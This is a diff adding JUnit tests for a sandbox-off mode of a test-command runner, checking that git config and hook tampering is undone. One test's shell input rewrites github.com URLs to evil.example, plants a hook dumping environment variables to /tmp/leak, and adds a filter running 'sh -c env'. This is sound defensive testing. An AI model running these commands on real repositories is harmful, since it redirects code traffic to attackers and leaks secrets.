@@ -109,6 +109,39 @@ class SandboxTest {
   }
 
   @Test
+  void withoutTheSandboxGitSettingsAndHooksTheCommandWroteArePutBack() throws Exception {
+    Path repo = checkout();
+    Files.writeString(repo.resolve(".git/config"), "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://github.com/o/r.git\n");
+    Files.writeString(repo.resolve(".git/hooks/pre-push.sample"), "#!/bin/sh\n");
+    Path home = Files.createDirectories(tmp.resolve("home"));
+    String before = Files.readString(repo.resolve(".git/config"));
+
+    TestCommandRunner.Result r = runner(env("ACS_SANDBOX", "off")).runShell(repo, String.join("; ",
+        "printf '[url \"https://evil.example/\"]\\n\\tinsteadOf = https://github.com/\\n' >> .git/config",
+        "printf '#!/bin/sh\\nenv > /tmp/leak\\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit",
+        "rm .git/hooks/pre-push.sample",
+        "printf '[filter \"x\"]\\n\\tclean = sh -c env\\n' > " + home.resolve(".gitconfig"),
+        "echo tests ran"));
+
+    assertThat(r.passed()).isTrue();
+    assertThat(r.output()).contains("tests ran").contains("ACS put them back");
+    assertThat(Files.readString(repo.resolve(".git/config"))).isEqualTo(before);
+    assertThat(repo.resolve(".git/hooks/post-commit")).doesNotExist();
+    assertThat(repo.resolve(".git/hooks/pre-push.sample")).hasContent("#!/bin/sh\n");
+    assertThat(home.resolve(".gitconfig")).doesNotExist();
+  }
+
+  @Test
+  void aBuildThatLeavesGitAloneIsNotReported() throws Exception {
+    Path repo = checkout();
+
+    TestCommandRunner.Result r = runner(env("ACS_SANDBOX", "off")).runShell(repo, "mkdir -p target && echo built > target/out.txt");
+
+    assertThat(r.output()).isEmpty();
+    assertThat(repo.resolve("target/out.txt")).hasContent("built\n");
+  }
+
+  @Test
   void withoutBwrapOnThePathAutoRunsPlainAndOnRefuses() throws Exception {
     Path repo = checkout();
     String noBwrap = tmp.resolve("empty-bin").toString();
